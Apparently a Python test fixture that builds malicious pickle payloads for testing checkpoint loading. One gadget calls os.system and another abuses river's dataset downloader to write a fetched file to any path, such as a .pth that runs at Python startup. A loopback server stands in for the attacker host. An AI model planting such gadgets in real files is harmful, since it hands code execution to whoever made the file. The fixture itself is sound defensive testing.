"""Pickles an attacker would plant in a checkpoint, and a local server that sees if one ran.

- :func:`download_gadget`: river's own dataset downloader (``RemoteDataset.download``) called
  on a dataset whose URL and file name the attacker chose: it fetches the URL and writes it to
  any path (an interpreter-wide ``.pth`` file runs code at the next Python start);
- :func:`system_gadget`: plain ``os.system``.

Each writes ``target`` if it runs; the download gadget also asks :class:`CountingServer`.
"""

from __future__ import annotations

import os
import pickle
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path


class _Download:
    def __init__(self, url: str, target: Path) -> None:
        self.url, self.target = url, target

    def __reduce__(self):
        from river.datasets import Bikes  # any RemoteDataset

        dataset = Bikes()
        dataset.url, dataset.unpack, dataset.filename = self.url, False, str(self.target)
        # pickled as river.datasets.base / RemoteDataset.download: a function defined in river
        return (type(dataset).download, (dataset, True, False))


class _System:
    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self):
        return (os.system, (f"touch {self.target}",))


def download_gadget(url: str, target: Path) -> bytes:
    return pickle.dumps(_Download(url, target), protocol=5)


def system_gadget(target: Path) -> bytes:
    return pickle.dumps(_System(target), protocol=5)


class CountingServer:
    """An HTTP server on loopback that counts the requests it gets."""

    def __init__(self) -> None:
        self.requests = 0
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.requests += 1
                body = b"import os\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/evil.pth"
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self._thread.join()

    def __enter__(self) -> CountingServer:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()
